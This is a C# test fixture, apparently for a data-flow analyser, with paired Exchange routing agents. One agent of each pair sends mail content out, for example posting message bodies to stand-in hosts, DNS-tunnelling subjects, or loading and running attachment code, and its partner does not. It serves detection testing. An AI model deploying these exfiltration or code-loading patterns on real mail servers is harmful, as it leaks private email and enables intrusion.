// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Where data goes.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.CodeDom.Compiler;
using System.Data.SqlClient;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Net.Http;
using System.Net.Mail;
using System.Net.Security;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.InteropServices;
using System.Text;
using System.Threading;
using Microsoft.CSharp;
using Microsoft.Win32;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;
using Attachment = Microsoft.Exchange.Data.Transport.Email.Attachment;

// 89: a file with the content, and a file named after the attachment
namespace Txray.Pairs.P89
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Attachment attachment in e.MailItem.Message.Attachments)
            {
                using (FileStream file = File.Create(@"C:\Pairs\attachment.bin"))
                {
                    attachment.GetContentReadStream().CopyTo(file);
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Attachment attachment in e.MailItem.Message.Attachments)
            {
                File.WriteAllText(Path.Combine(@"C:\Pairs", Path.GetFileName(attachment.FileName)), "seen");
            }
        }
    }
}

// 90: a socket
namespace Txray.Pairs.P90
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            socket.Connect("192.0.2.7", 9000);
            socket.Send(Encoding.UTF8.GetBytes(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd()));
            socket.Close();
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            socket.Connect("192.0.2.7", 9000);
            socket.Send(Encoding.UTF8.GetBytes("mail of " + new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length));
            socket.Close();
        }
    }
}

// 91: a datagram
namespace Txray.Pairs.P91
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var client = new UdpClient();
            byte[] data = Encoding.UTF8.GetBytes(e.MailItem.Message.Subject);
            client.Send(data, data.Length, "192.0.2.7", 514);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var client = new UdpClient();
            byte[] data = Encoding.UTF8.GetBytes("alive");
            client.Send(data, data.Length, "192.0.2.7", 514);
            Trace.WriteLine(e.MailItem.Message.Subject.Length.ToString());
        }
    }
}

// 92: a request of HttpClient
namespace Txray.Pairs.P92
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private async void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (var client = new HttpClient())
            {
                await client.PostAsync("https://collect.example.invalid/pair", new StringContent(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd()));
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private async void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (var client = new HttpClient())
            {
                await client.PostAsync("https://collect.example.invalid/pair", new StringContent("alive"));
            }
            Trace.WriteLine(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length.ToString());
        }
    }
}

// 93: the stream of a web request
namespace Txray.Pairs.P93
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var request = (HttpWebRequest)WebRequest.Create("https://collect.example.invalid/pair");
            request.Method = "POST";
            using (Stream stream = request.GetRequestStream())
            {
                e.MailItem.GetMimeReadStream().CopyTo(stream);
            }
            request.GetResponse().Close();
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            var request = (HttpWebRequest)WebRequest.Create("https://collect.example.invalid/pair");
            request.Method = "POST";
            using (Stream stream = request.GetRequestStream())
            {
                stream.WriteByte((byte)(memory.Length > 1000 ? 1 : 0));
            }
            request.GetResponse().Close();
        }
    }
}

// 94: a name that is looked up
namespace Txray.Pairs.P94
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] data = Encoding.ASCII.GetBytes(e.MailItem.Message.Subject);
            Dns.GetHostEntry(BitConverter.ToString(data).Replace("-", "") + ".names.example.invalid");
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Trace.WriteLine(e.MailItem.Message.Subject.Length.ToString());
            Dns.GetHostEntry("alive.names.example.invalid");
        }
    }
}

// 95: a mail of the framework
namespace Txray.Pairs.P95
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var mail = new MailMessage("agent@example.invalid", "copy@post.example.invalid");
            mail.Body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            new SmtpClient("192.0.2.25").Send(mail);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var mail = new MailMessage("agent@example.invalid", "copy@post.example.invalid");
            mail.Body = "a message of " + new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length + " letters came";
            new SmtpClient("192.0.2.25").Send(mail);
        }
    }
}

// 96: arguments of a program
namespace Txray.Pairs.P96
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var start = new ProcessStartInfo
            {
                FileName = "cmd.exe",
                Arguments = "/c rem " + e.MailItem.Message.Subject,
                UseShellExecute = false
            };
            Process.Start(start);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var start = new ProcessStartInfo
            {
                FileName = "cmd.exe",
                Arguments = "/c rem " + e.MailItem.Message.Subject.Length,
                UseShellExecute = false
            };
            Process.Start(start);
        }
    }
}

// 97: a program named by the mail, and a fixed one
namespace Txray.Pairs.P97
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string header = e.MailItem.Message.RootPart.Headers.FindFirst("X-Pair-Tool").Value;
            Process.Start(header);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string header = e.MailItem.Message.RootPart.Headers.FindFirst("X-Pair-Tool").Value;
            if (header == "scan")
            {
                Process.Start("cmd.exe", "/c rem scan");
            }
        }
    }
}

// 98: the standard input of a program
namespace Txray.Pairs.P98
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var start = new ProcessStartInfo("cmd.exe", "/c rem") { UseShellExecute = false, RedirectStandardInput = true };
            Process process = Process.Start(start);
            e.MailItem.GetMimeReadStream().CopyTo(process.StandardInput.BaseStream);
            process.StandardInput.Close();
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var start = new ProcessStartInfo("cmd.exe", "/c rem") { UseShellExecute = false, RedirectStandardInput = true };
            Process process = Process.Start(start);
            process.StandardInput.WriteLine("exit");
            process.StandardInput.Close();
            Trace.WriteLine(e.MailItem.MimeStreamLength.ToString());
        }
    }
}

// 99: code from an attachment, and code from a file beside it
namespace Txray.Pairs.P99
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.Message.Attachments[0].GetContentReadStream().CopyTo(memory);
            Assembly.Load(memory.ToArray()).EntryPoint.Invoke(null, null);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.Message.Attachments[0].GetContentReadStream().CopyTo(memory);
            Trace.WriteLine(memory.Length.ToString());
            Assembly.Load(File.ReadAllBytes("plugin.bin")).EntryPoint.Invoke(null, null);
        }
    }
}

// 100: a script that is compiled
namespace Txray.Pairs.P100
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var parameters = new CompilerParameters { GenerateInMemory = true };
            new CSharpCodeProvider().CompileAssemblyFromSource(parameters, new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var parameters = new CompilerParameters { GenerateInMemory = true };
            new CSharpCodeProvider().CompileAssemblyFromSource(parameters, "class Empty { }");
            Trace.WriteLine(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length.ToString());
        }
    }
}

// 101: bytes copied to native memory
namespace Txray.Pairs.P101
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] mail = memory.ToArray();
            IntPtr block = Marshal.AllocHGlobal(mail.Length);
            Marshal.Copy(mail, 0, block, mail.Length);
            Native.Scan(block, mail.Length);
            Marshal.FreeHGlobal(block);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] mail = memory.ToArray();
            IntPtr block = Marshal.AllocHGlobal(mail.Length);
            Marshal.WriteInt32(block, 1);
            Native.Scan(block, mail.Length);
            Marshal.FreeHGlobal(block);
        }
    }

    internal static class Native
    {
        [DllImport("pairscan.dll")]
        public static extern int Scan(IntPtr data, int size);
    }
}

// 102: a pinned array, and a native string
namespace Txray.Pairs.P102
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            IntPtr text = Marshal.StringToHGlobalUni(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            GCHandle pin = GCHandle.Alloc(new byte[64], GCHandleType.Pinned);
            Native.Scan(text, 1);
            pin.Free();
            Marshal.FreeHGlobal(text);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            IntPtr text = Marshal.StringToHGlobalUni(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            GCHandle pin = GCHandle.Alloc(new byte[64], GCHandleType.Pinned);
            Native.Scan(pin.AddrOfPinnedObject(), 64);
            pin.Free();
            Marshal.FreeHGlobal(text);
        }
    }

    internal static class Native
    {
        [DllImport("pairscan.dll")]
        public static extern int Scan(IntPtr data, int size);
    }
}

// 103: a pinned array with the mail
namespace Txray.Pairs.P103
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            GCHandle pin = GCHandle.Alloc(memory.ToArray(), GCHandleType.Pinned);
            Native.Scan(pin.AddrOfPinnedObject(), 1);
            pin.Free();
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            GCHandle pin = GCHandle.Alloc(memory.ToArray(), GCHandleType.Pinned);
            Native.Scan(IntPtr.Zero, 1);
            pin.Free();
        }
    }

    internal static class Native
    {
        [DllImport("pairscan.dll")]
        public static extern int Scan(IntPtr data, int size);
    }
}

// 104: a value of the registry
namespace Txray.Pairs.P104
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Registry.SetValue(@"HKEY_LOCAL_MACHINE\SOFTWARE\Pairs", "Last", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Registry.SetValue(@"HKEY_LOCAL_MACHINE\SOFTWARE\Pairs", "Last", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length);
        }
    }
}

// 105: a parameter of a database command
namespace Txray.Pairs.P105
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (var connection = new SqlConnection("Server=db.example.invalid;Database=pairs"))
            using (var command = new SqlCommand("INSERT INTO Mail (Text) VALUES (@text)", connection))
            {
                connection.Open();
                command.Parameters.AddWithValue("@text", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                command.ExecuteNonQuery();
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (var connection = new SqlConnection("Server=db.example.invalid;Database=pairs"))
            using (var command = new SqlCommand("INSERT INTO Mail (Size) VALUES (@size)", connection))
            {
                connection.Open();
                command.Parameters.AddWithValue("@size", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length);
                command.ExecuteNonQuery();
            }
        }
    }
}

// 106: the event log
namespace Txray.Pairs.P106
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            EventLog.WriteEntry("Pairs", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            EventLog.WriteEntry("Pairs", "a message of " + new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length + " letters");
        }
    }
}

// 107: a file that is appended to and later uploaded
namespace Txray.Pairs.P107
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly Timer timer;

        private static void Flush(object state)
        {
            new WebClient().UploadFile("https://collect.example.invalid/pair", @"C:\Pairs\mail.txt");
        }

        public Claim()
        {
            timer = new Timer(Flush, null, 60000, 60000);
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            File.AppendAllText(@"C:\Pairs\mail.txt", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private readonly Timer timer;

        private static void Flush(object state)
        {
            new WebClient().UploadFile("https://collect.example.invalid/pair", @"C:\Pairs\agent.log");
        }

        public Other()
        {
            timer = new Timer(Flush, null, 60000, 60000);
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            File.AppendAllText(@"C:\Pairs\mail.txt", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 108: an attachment saved in one event and loaded in a later one
namespace Txray.Pairs.P108
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static string PathOf(string name)
        {
            return Path.Combine(@"C:\Pairs", name);
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
            OnRoutedMessage += Routed;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (FileStream file = File.Create(PathOf("pairs.dll")))
            {
                e.MailItem.Message.Attachments[0].GetContentReadStream().CopyTo(file);
            }
        }

        private void Routed(RoutedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Assembly.LoadFrom(PathOf("pairs.dll")).GetTypes();
        }
    }

    public class Other : RoutingAgent
    {
        private static string PathOf(string name)
        {
            return Path.Combine(@"C:\Pairs", name);
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
            OnRoutedMessage += Routed;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (FileStream file = File.Create(PathOf("pairs.tmp")))
            {
                e.MailItem.Message.Attachments[0].GetContentReadStream().CopyTo(file);
            }
        }

        private void Routed(RoutedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Assembly.LoadFrom(PathOf("shipped.dll")).GetTypes();
        }
    }
}

// 109: a layer of encryption over a socket
namespace Txray.Pairs.P109
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var client = new TcpClient("collect.example.invalid", 443);
            using (var secure = new SslStream(client.GetStream()))
            {
                secure.AuthenticateAsClient("collect.example.invalid");
                var buffer = new byte[4096];
                int count;
                Stream mime = e.MailItem.GetMimeReadStream();
                while ((count = mime.Read(buffer, 0, buffer.Length)) > 0)
                {
                    secure.Write(buffer, 0, count);
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var client = new TcpClient("collect.example.invalid", 443);
            using (var secure = new SslStream(client.GetStream()))
            {
                secure.AuthenticateAsClient("collect.example.invalid");
                var buffer = new byte[4096];
                var alive = new byte[4096];
                int count;
                Stream mime = e.MailItem.GetMimeReadStream();
                while ((count = mime.Read(buffer, 0, buffer.Length)) > 0)
                {
                    secure.Write(alive, 0, count);
                }
            }
        }
    }
}
